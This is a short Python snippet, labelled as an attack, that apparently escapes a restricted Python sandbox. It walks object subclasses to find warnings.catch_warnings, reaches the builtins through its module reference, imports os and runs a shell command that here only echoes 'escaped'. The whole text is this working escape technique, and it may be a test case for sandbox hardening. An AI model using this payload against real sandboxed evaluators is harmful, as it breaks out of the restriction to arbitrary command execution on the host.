# attack: warnings.catch_warnings keeps a module reference that leads to builtins
for cls in {}.__class__.__base__.__subclasses__():
    if "catch_warnings" in str(cls):
        b = cls()._module.__builtins__
        b["__import__"]("os").system("echo escaped")
